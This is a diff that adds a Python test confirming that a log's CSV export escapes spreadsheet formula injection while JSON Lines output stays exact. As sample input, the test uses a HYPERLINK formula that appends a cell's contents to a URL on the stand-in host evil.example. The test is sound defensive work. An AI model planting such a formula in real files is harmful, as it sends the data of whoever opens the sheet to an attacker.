@@ -106,6 +106,17 @@ def test_csv_export_has_every_record_and_its_hashes(log: Any) -> None:
     assert rows[0]["time"] == "2026-03-01T12:00:00.000000Z"
 
 
+def test_csv_export_keeps_text_from_the_line_from_running_as_a_spreadsheet_formula(log: Any) -> None:
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    log.append(LogEntry(kind="inspection", part_id=evil, station="s1", decision="reject", threshold=-0.5,
+                        failsafe_reason="@SUM(1+1)"))
+    [row] = list(csv.DictReader(io.StringIO("".join(iter_export(log, "csv")))))
+    assert (row["part_id"], row["failsafe_reason"], row["station"]) == ("'" + evil, "'@SUM(1+1)", "s1")
+    assert row["threshold"] == "-0.5"  # numbers stay numbers
+    [obj] = [json.loads(line) for line in "".join(iter_export(log, "jsonl")).splitlines()]
+    assert obj["part_id"] == evil  # JSON Lines stays exact
+
+
 def test_jsonl_export_respects_filters(log: Any) -> None:
     _populate(log)
     lines = "".join(iter_export(log, "jsonl", RecordFilter(decision="reject"), chunk_rows=2)).splitlines()
